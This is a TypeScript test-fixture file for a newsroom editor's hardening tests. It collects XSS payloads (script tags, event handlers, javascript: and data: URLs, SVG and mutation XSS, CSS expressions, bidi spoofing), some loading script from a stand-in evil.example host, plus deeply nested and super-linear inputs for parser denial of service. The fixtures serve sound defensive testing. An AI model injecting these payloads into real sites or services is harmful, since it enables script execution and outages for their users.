/**
 * One shared list of hostile inputs (issue "Hardening"), run through paste, every importer and
 * every export format by shared/security/hostileContent.test.ts and pasted into the editor by
 * e2e/browser/hostile.spec.ts. Every payload that could run sets `window[PWNED_FLAG]`, so a test
 * in a browser can tell whether anything ran.
 */

export const PWNED_FLAG = '__newsroomPwned';
const RUN = `window.${PWNED_FLAG}=1`;

/** A 1×1 PNG, for an image that arrives inline as a data: URL (allowed) next to hostile attributes. */
export const PNG_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** Bidirectional embedding/override and isolate controls: no output may carry one. */
export const BIDI_CONTROLS = /[\u202A-\u202E\u2066-\u2069]/;

export type HostileCase = {
  name: string;
  /** As clipboard HTML, an .html file, the HTML body of a ninjs item. */
  html: string;
  /** As plain clipboard text, a .txt file, a headline. */
  text: string;
  /** As a .md file (defaults to `html`: raw HTML in Markdown is an attack of its own). */
  markdown?: string;
  /** Text every path must keep (as text), proving the content was neutralised, not dropped wholesale. */
  keeps?: string;
};

export const HOSTILE_CASES: readonly HostileCase[] = [
  {
    name: 'script elements',
    html: `<p>Before the script</p><script>${RUN}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>${RUN}</scr</script>ipt><p>After the script</p>`,
    text: `<script>${RUN}</script> After the script`,
    keeps: 'After the script',
  },
  {
    name: 'event-handler attributes',
    html: `<p onclick="${RUN}" onmouseover='${RUN}'>Click me</p><img src=x onerror="${RUN}"><div onpointerenter=${RUN} style="color:red">Hover me</div><body onload="${RUN}"><details open ontoggle="${RUN}"><summary>Toggle me</summary></details>`,
    text: `<img src=x onerror="${RUN}"> Click me`,
    keeps: 'Click me',
  },
  {
    name: 'javascript: links',
    html: `<p><a href="javascript:${RUN}">plain js</a> <a href=" JaVaScRiPt:${RUN}">mixed case</a> <a href="java&#x09;script:${RUN}">tab entity</a> <a href="&#106;avascript:${RUN}">char ref</a> <a href="vbscript:msgbox(1)">vb</a> <a href="https://example.org/safe">safe link</a></p>`,
    text: `javascript:${RUN} safe link`,
    markdown: `[plain js](javascript:${RUN}) [angle](<javascript:${RUN}>) <javascript:${RUN}> [ref link][r] [safe link](https://example.org/safe)\n\n![img](javascript:${RUN})\n\n[r]: javascript:${RUN}\n`,
    keeps: 'safe link',
  },
  {
    name: 'data: links and images',
    html: `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a> <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"> <img src="data:text/html,<script>${RUN}</script>"></p><figure><img src="data:image/png;base64,${PNG_BASE64}" alt="&quot; onerror=&quot;${RUN}"><figcaption>Caption <script>${RUN}</script>kept</figcaption></figure>`,
    text: `data:text/html,<script>${RUN}</script> data link`,
    markdown: `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)\n`,
    keeps: 'data link',
  },
  {
    name: 'SVG and MathML with script',
    html: `<p>Outside the svg</p><svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>svg text</text></a><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
    text: `<svg onload="${RUN}"></svg> Outside the svg`,
    keeps: 'Outside the svg',
  },
  {
    name: 'frames, objects and embeds',
    html: `<p>Framed</p><iframe src="javascript:${RUN}" srcdoc="<script>${RUN}</script>"></iframe><object data="javascript:${RUN}"><param name=x value=y></object><embed src="javascript:${RUN}"><frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset><portal src="https://evil.example/">`,
    text: `<iframe src="javascript:${RUN}"></iframe> Framed`,
    keeps: 'Framed',
  },
  {
    name: 'styles with expressions',
    html: `<style>p{width:expression(${RUN})} @import 'javascript:${RUN}'; body{-moz-binding:url(https://evil.example/x.xml#x)}</style><p style="background:url(javascript:${RUN});width:expression(${RUN});behavior:url(x.htc)">Styled text</p><link rel=stylesheet href="javascript:${RUN}">`,
    text: `<style>p{width:expression(${RUN})}</style> Styled text`,
    keeps: 'Styled text',
  },
  {
    name: 'meta, base and forms',
    html: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}"><base href="javascript:/"><form action="javascript:${RUN}"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Send</button></form><p>Form text</p>`,
    text: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}"> Form text`,
    keeps: 'Form text',
  },
  {
    name: 'mutation XSS and parser confusion',
    html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template><!--<img src=x onerror=${RUN}>--><![CDATA[<script>${RUN}</script>]]><xmp><script>${RUN}</script></xmp><p>Confused <b>parser<i>text</b></i></p><textarea><script>${RUN}</script></textarea>`,
    text: `"><img src=x onerror=${RUN}> Confused parser`,
    keeps: 'Confused',
  },
  {
    name: 'markup written as text',
    html: `<p>&lt;script&gt;${RUN}&lt;/script&gt; and &lt;img src=x onerror=${RUN}&gt; are shown, not run</p><h1>&lt;b onmouseover=${RUN}&gt;Heading&lt;/b&gt;</h1><ul><li>&lt;a href="javascript:${RUN}"&gt;item&lt;/a&gt;</li></ul><blockquote>&lt;svg onload=${RUN}&gt;</blockquote>`,
    text: `<script>${RUN}</script> and <img src=x onerror=${RUN}> are shown, not run`,
    markdown: `# <b onmouseover=${RUN}>Heading</b>\n\n\\<script>${RUN}\\</script> are shown, not run\n\n- <a href="javascript:${RUN}">item</a>\n\n> <svg onload=${RUN}>\n\n<div onclick="${RUN}">raw html block</div>\n`,
    keeps: 'are shown, not run',
  },
  {
    name: 'bidirectional overrides',
    html: `<p>Invoice \u202Etxt.exe\u202C total \u2066isolated\u2069 \u202Aembedded\u202C \u202Bright\u202C \u202Doverride\u202C \u2067rtl\u2069 \u2068first\u2069</p><p><a href="https://example.org/\u202Egnp.exe">spoofed link</a> <a href="https://example.org/ok">\u202Elink text\u202C</a></p><h2>\u202EenilDAEH</h2>`,
    text: `Invoice \u202Etxt.exe\u202C total \u2066isolated\u2069 \u202Dforced\u202C`,
    keeps: 'Invoice',
  },
];

/** Hostile strings for single-line fields (headline, dek, byline, tags) on the import paths that carry them. */
export const HOSTILE_FIELD = `<script>${RUN}</script>\u202E"><img src=x onerror=${RUN}>`;

// ---- Oversized and deeply nested inputs (built on demand: some are megabytes) --------------------

export const DEPTH = 10_000;

export const oversized = {
  /** 60,000 paragraphs: more blocks than an article may hold (BODY_LIMITS.maxBlocks). */
  manyBlocksHtml: () => '<p>block</p>'.repeat(60_000),
  manyBlocksText: () => 'block\n'.repeat(60_000),
  manyBlocksMarkdown: () => 'block\n\n'.repeat(60_000),
  /** One 5 MB text node. */
  hugeTextHtml: () => `<p>${'a'.repeat(5 * 1024 * 1024)}</p>`,
  hugeText: () => 'a'.repeat(5 * 1024 * 1024),
};

export const deeplyNested = {
  div: () => `${'<div>'.repeat(DEPTH)}deep text${'</div>'.repeat(DEPTH)}`,
  list: () => `${'<ul><li>'.repeat(DEPTH)}deep text${'</li></ul>'.repeat(DEPTH)}`,
  blockquote: () => `${'<blockquote>'.repeat(DEPTH)}deep text${'</blockquote>'.repeat(DEPTH)}`,
  unclosed: () => `${'<div><span><b><i>'.repeat(DEPTH)}deep text`,
  markdownQuotes: () => `${'>'.repeat(DEPTH)} deep text\n`,
  markdownSpacedQuotes: () => `${'> '.repeat(DEPTH)}deep text\n`,
  markdownList: () => `${'- '.repeat(DEPTH)}deep text\n`,
  markdownIndentedList: () => Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'),
  markdownEmphasis: () => `${'*'.repeat(DEPTH)}deep text${'*'.repeat(DEPTH)}`,
  /** 10,000-deep JSON beside a real ninjs item, and as its only content. */
  ninjsExtra: () => `{"headline":"Deep","body_text":"deep text","extra":${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}}`,
  ninjsObjects: () => `{"headline":"Deep","bodies":${'{"value":'.repeat(DEPTH)}"x"${'}'.repeat(DEPTH)}}`,
  ninjsHtml: () => JSON.stringify({ headline: 'Deep', body_html: `${'<div>'.repeat(DEPTH)}deep text${'</div>'.repeat(DEPTH)}` }),
};

// ---- Inputs that once took super-linear time (issue "Trust"), and generators for more like them ----

/** Each took 29–60 s or more before the parsers were made linear; each must now finish in well under a second. */
export const superLinear = {
  /** 47 KB: emphasis openers and closers that never match (micromark's resolution is quadratic in them). */
  markdownEmphasisMix: () => '*a_'.repeat(16_000),
  /** 600 KB: a `<title` that never closes, read by a backtracking title regex. */
  htmlTitles: () => `<p>hello</p>${'<title'.repeat(100_000)}`,
  /** 200,000 spaces in a front matter value. */
  frontMatterSpaces: () => `---\nheadline: a${' '.repeat(200_000)}b\n---\n\nBody text\n`,
  /** 32,000 list items that never close: every item walked the whole open-element stack. */
  unclosedListItems: () => '<ul><li>x'.repeat(32_000),
  /** 32,000 container markers with no closing `:::` as one paragraph; 8,000 as paragraphs (each scanned to the end for its `:::`). */
  markdownMarkers: () => ':::zz\n'.repeat(32_000),
  markdownMarkerParagraphs: () => ':::zz\n\n'.repeat(8_000),
  /** Unclosed inline HTML comments and declarations: each scanned to the end of the paragraph. */
  markdownComments: () => 'a <!--'.repeat(20_000),
  markdownDeclarations: () => 'a <!a'.repeat(20_000),
  /** Links and footnote labels that never close. */
  markdownLinkOpeners: () => '[a]('.repeat(20_000),
  markdownFootnotes: () => '[^a'.repeat(20_000),
  /** 128 KB of text broken by character references: micromark merged its text with one splice per piece (fixed in scripts/patch-deps.mjs). */
  markdownCharacterReferences: () => 'zz&&amp;'.repeat(16_000),
  /** 200,000 spaces before a line break in preformatted text, and many breaks in one block. */
  htmlPreSpaces: () => `<pre>a${' '.repeat(200_000)}b<br>${'c<br>'.repeat(50_000)}</pre>`,
  /** 80,000 line breaks in one block: trimming the space before each re-read the whole block. */
  htmlManyBreaks: () => `<p>${'word <br>'.repeat(80_000)}</p>`,
  /** Close tags of elements that are not open, under deep nesting. */
  htmlStrayCloseTags: () => `${'<div>'.repeat(900)}${'</x>'.repeat(100_000)}text`,
  /** 128,000 unclosed elements. */
  htmlDeepDivs: () => '<div>x'.repeat(128_000),
  /** A ninjs byline of 200,000 spaces between two names. */
  ninjsBylineSpaces: () => JSON.stringify({ headline: 'Spaces', body_text: 'text', by: `Ann${' '.repeat(200_000)}Bo and Cy` }),
};

/** Building blocks of hostile inputs: delimiters, unclosed tags and containers, whitespace. */
export const HOSTILE_UNITS = [
  '*',
  '_',
  '~',
  '`',
  '[',
  ']',
  '(',
  ')',
  '<',
  '>',
  '!',
  '\\',
  ':',
  '#',
  '-',
  '|',
  '&',
  '@',
  '"',
  "'",
  '=',
  '*a_',
  '_a*',
  '[a](',
  '[^a',
  '](',
  '<!--',
  '<!a',
  '<?',
  '<![CDATA[',
  '<a b="',
  'http://',
  'www.',
  'a@b.',
  ':::zz',
  ':::promo-box',
  ':::',
  '> ',
  '- ',
  '1. ',
  '    ',
  '```',
  '---',
  '***',
  '<div>',
  '<ul><li>',
  '<li>',
  '<p><b>',
  '<blockquote>',
  '<figure><figcaption>',
  '<title',
  '<pre>',
  '<br>',
  '</x>',
  '</p>',
  '<span style="mso-list:Ignore">',
  '&amp;',
  '&#',
  ' ',
  '  ',
  '\t',
  '\n',
  '\n\n',
  '\u00a0',
  'a',
  'word ',
] as const;
